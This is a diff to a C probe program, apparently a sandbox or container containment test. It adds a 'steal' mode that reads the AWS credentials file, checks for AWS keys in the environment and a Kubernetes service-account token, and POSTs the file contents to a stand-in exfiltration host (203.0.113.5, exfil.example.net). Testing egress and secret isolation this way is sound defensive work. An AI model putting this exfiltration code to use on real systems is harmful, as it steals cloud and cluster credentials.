@@ -230,6 +230,29 @@ int main(int argc, char **argv) {
         printf("imds_reply=%s\n", buf);
         return 0;
     }
+    if (!strcmp(mode, "steal")) {
+        /* A credential stealer: read the AWS credentials file, POST it away. */
+        char creds[1024] = "";
+        int fd = open("/root/.aws/credentials", O_RDONLY);
+        ssize_t n = fd >= 0 ? read(fd, creds, sizeof creds - 1) : -1;
+        if (n > 0) creds[n] = 0;
+        printf("aws_file=%s\n", n > 0 ? "present" : "absent");
+        const char *env = getenv("AWS_ACCESS_KEY_ID");
+        printf("aws_env=%.4s\n", env ? env : "");
+        printf("sa_token=%s\n", access("/var/run/secrets/kubernetes.io/serviceaccount/token", R_OK) == 0 ? "present" : "absent");
+        int s = socket(AF_INET, SOCK_STREAM, 0);
+        struct sockaddr_in a = {0};
+        a.sin_family = AF_INET; a.sin_port = htons(80);
+        inet_pton(AF_INET, "203.0.113.5", &a.sin_addr);
+        tried("connect_exfil", connect(s, (struct sockaddr *)&a, sizeof a));
+        char req[2048];
+        int len = snprintf(req, sizeof req, "POST /c HTTP/1.1\r\nHost: exfil.example.net\r\nContent-Length: %zu\r\n\r\n%s", strlen(creds), creds);
+        if (write(s, req, len) < 0) return 7;
+        char buf[64];
+        ssize_t k = read(s, buf, sizeof buf - 1);
+        printf("exfil_reply=%s\n", k > 0 ? "yes" : "no");
+        return 0;
+    }
     if (!strcmp(mode, "exit")) return atoi(argc > 2 ? argv[2] : "0");
     if (!strcmp(mode, "crash")) {
         /* Pid 1 ignores signals it sends itself; a fault's signal is forced. */
